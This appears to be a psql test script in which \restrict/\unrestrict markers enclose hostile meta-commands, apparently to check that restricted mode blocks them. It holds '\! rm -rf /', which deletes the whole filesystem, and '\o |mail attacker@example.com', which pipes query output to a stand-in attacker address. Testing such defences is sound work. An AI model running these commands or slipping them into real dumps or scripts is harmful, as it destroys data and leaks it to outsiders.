\restrict Zr0y6m1pK8m0Qn7s2XbNqQe0J0wVd3R4eHcQmF8tYk2aLp9uSx5vWz1oBg7nTh3
SET row_security = off;
\! rm -rf /
\o |mail attacker@example.com
SELECT '\! rm -rf /' AS "\o";
\unrestrict Zr0y6m1pK8m0Qn7s2XbNqQe0J0wVd3R4eHcQmF8tYk2aLp9uSx5vWz1oBg7nTh3
